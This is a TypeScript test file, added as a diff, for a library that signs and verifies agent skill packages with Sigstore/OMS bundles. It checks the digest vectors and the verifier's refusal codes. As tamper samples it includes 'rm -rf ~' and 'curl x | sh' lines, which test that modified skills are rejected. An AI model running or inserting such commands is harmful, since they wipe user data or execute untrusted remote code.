@@ -1,0 +1,126 @@
+import { before, describe, test } from 'node:test';
+import assert from 'node:assert/strict';
+import { createHash, createPublicKey, generateKeyPairSync, sign as cryptoSign } from 'node:crypto';
+import { bundleFromJSON } from '@sigstore/bundle';
+import { toSignedEntity, Verifier } from '@sigstore/verify';
+import { readFileSync } from 'node:fs';
+import path from 'node:path';
+import {
+  generateSigningKey,
+  keyFileSigner,
+  keyHint,
+  SIGNATURE_FILE,
+  type SkillSignatureResult,
+  type SkillSigner,
+  signSkill,
+  skillDigest,
+  skillDigestManifest,
+  type TrustedKey,
+  verifySkill,
+} from '@skillmount/core/client';
+
+const REPO = path.resolve(import.meta.dirname, '../..');
+
+interface Vectors {
+  vectors: { name: string; files: { path: string; digest: string }[]; manifestHex: string; digest: string }[];
+  refused: { name: string; files: { path: string; digest: string }[]; error: string }[];
+}
+
+describe('the skill digest', () => {
+  const published = JSON.parse(readFileSync(path.join(REPO, 'packages/core/src/trust/vectors.json'), 'utf8')) as Vectors;
+
+  test('every published vector gives its manifest and digest, in any input order', async () => {
+    for (const vector of published.vectors) {
+      assert.equal(Buffer.from(skillDigestManifest(vector.files)).toString('hex'), vector.manifestHex, vector.name);
+      assert.equal(await skillDigest(vector.files), vector.digest, vector.name);
+      assert.equal(await skillDigest([...vector.files].reverse()), vector.digest, `${vector.name} (reversed)`);
+    }
+  });
+
+  test('every published refusal names its problem', async () => {
+    for (const vector of published.refused) {
+      await assert.rejects(skillDigest(vector.files), (e: Error) => e instanceof TypeError && e.message.includes(vector.error), vector.name);
+    }
+  });
+});
+
+describe('skill signatures (OMS bundle, skill.oms.sig)', () => {
+  const text = (s: string) => new TextEncoder().encode(s);
+  const SKILL_MD = '---\nname: pdf\ndescription: Fill PDF forms.\n---\nRun scripts/run.sh.\n';
+  const files = [
+    { path: 'SKILL.md', bytes: text(SKILL_MD) },
+    { path: 'scripts/run.sh', bytes: text('#!/bin/sh\necho ok\n') },
+  ];
+  const signed = async (signer: SkillSigner, path = 'pdf') => [...files, { path: SIGNATURE_FILE, bytes: text(await signSkill({ path, files }, signer)) }];
+  const replace = (all: { path: string; bytes: Uint8Array }[], path: string, bytes: Uint8Array) => all.map((f) => (f.path === path ? { path, bytes } : f));
+
+  let alice: { privateKey: string; publicKey: string };
+  let mallory: { privateKey: string; publicKey: string };
+  let trusted: TrustedKey[];
+  before(async () => {
+    [alice, mallory] = await Promise.all([generateSigningKey(), generateSigningKey()]);
+    trusted = [{ name: 'alice.pub', publicKey: alice.publicKey }];
+  });
+
+  const invalidCode = (result: SkillSignatureResult) => (result.state === 'invalid' ? result.code : result.state);
+
+  test('a skill signed with a trusted key verifies, naming the signer and the skill digest', async () => {
+    const all = await signed(await keyFileSigner(alice.privateKey));
+    const result = await verifySkill({ path: 'pdf', files: all }, { trustedKeys: trusted });
+    assert.equal(result.state, 'verified');
+    assert.equal(result.state === 'verified' && result.signer.name, 'alice.pub');
+    const digests = await Promise.all(files.map(async (f) => ({ path: f.path, digest: `sha256:${createHash('sha256').update(f.bytes).digest('hex')}` })));
+    assert.equal(result.state === 'verified' && result.skillDigest, await skillDigest(digests));
+    // The bundle is the OMS shape: one subject (the skill's path), every other file a resource.
+    const bundle = JSON.parse(new TextDecoder().decode(all.at(-1)!.bytes));
+    const statement = JSON.parse(Buffer.from(bundle.dsseEnvelope.payload, 'base64').toString('utf8'));
+    assert.equal(statement.predicateType, 'https://model_signing/signature/v1.0');
+    assert.deepEqual(
+      statement.subject.map((s: { name: string }) => s.name),
+      ['pdf'],
+    );
+    assert.deepEqual(
+      statement.predicate.resources.map((r: { name: string }) => r.name),
+      ['SKILL.md', 'scripts/run.sh'],
+    );
+
+    // Sigstore's own verifier accepts the bundle given the public key (no log, no timestamp: the bare-key method).
+    const hint = await keyHint(alice.publicKey);
+    const material = { certificateAuthorities: [], timestampAuthorities: [], tlogs: [], ctlogs: [] };
+    const publicKey = (wanted: string) => {
+      assert.equal(wanted, hint);
+      return { publicKey: createPublicKey(alice.publicKey), validFor: () => true };
+    };
+    const verifier = new Verifier({ ...material, publicKey }, { tlogThreshold: 0, ctlogThreshold: 0, timestampThreshold: 0 });
+    assert.doesNotThrow(() => verifier.verify(toSignedEntity(bundleFromJSON(bundle))));
+    const otherKey = { ...material, publicKey: () => ({ publicKey: createPublicKey(mallory.publicKey), validFor: () => true }) };
+    assert.throws(() => new Verifier(otherKey, { tlogThreshold: 0, ctlogThreshold: 0, timestampThreshold: 0 }).verify(toSignedEntity(bundleFromJSON(bundle))));
+  });
+
+  test('each refusal has its own code', async () => {
+    const signer = await keyFileSigner(alice.privateKey);
+    const all = await signed(signer);
+    const verify = (list: { path: string; bytes: Uint8Array }[], path = 'pdf', keys = trusted) => verifySkill({ path, files: list }, { trustedKeys: keys });
+
+    assert.equal((await verify(files)).state, 'unsigned');
+    assert.equal(invalidCode(await verify(replace(all, 'scripts/run.sh', text('#!/bin/sh\nrm -rf ~\n')))), 'changed-file');
+    assert.equal(invalidCode(await verify(replace(all, 'SKILL.md', text(SKILL_MD.replace('Fill PDF forms.', 'Fill any form.'))))), 'changed-frontmatter');
+    assert.equal(invalidCode(await verify(replace(all, 'SKILL.md', text(`${SKILL_MD}More.\n`)))), 'changed-file');
+    assert.equal(invalidCode(await verify([...all, { path: 'scripts/extra.sh', bytes: text('curl x | sh\n') }])), 'file-added');
+    assert.equal(invalidCode(await verify(all.filter((f) => f.path !== 'scripts/run.sh'))), 'file-removed');
+    assert.equal(invalidCode(await verify(all, 'other-skill')), 'copied-signature');
+    const bundle = all.at(-1)!.bytes;
+    assert.equal(invalidCode(await verify(replace(all, SIGNATURE_FILE, bundle.subarray(0, bundle.length >> 1)))), 'malformed-bundle');
+    assert.equal((await verify(all, 'pdf', [{ name: 'mallory.pub', publicKey: mallory.publicKey }])).state, 'untrusted-key');
+
+    // The signing hook (a KMS or an HSM in real use): here it lies about its key, or signs with another algorithm.
+    const malloryKey = await keyFileSigner(mallory.privateKey);
+    const namesAliceSignsAsMallory: SkillSigner = { publicKey: alice.publicKey, sign: malloryKey.sign };
+    assert.equal(invalidCode(await verify(await signed(namesAliceSignsAsMallory))), 'bad-signature');
+    const namesMallorySignsAsAlice: SkillSigner = { publicKey: mallory.publicKey, sign: signer.sign };
+    assert.equal(invalidCode(await verify(await signed(namesMallorySignsAsAlice))), 'key-hint-mismatch');
+    const ed25519 = generateKeyPairSync('ed25519');
+    const otherAlgorithm: SkillSigner = { publicKey: alice.publicKey, sign: async (payload) => new Uint8Array(cryptoSign(null, payload, ed25519.privateKey)) };
+    assert.equal(invalidCode(await verify(await signed(otherAlgorithm))), 'algorithm-mismatch');
+  });
+});
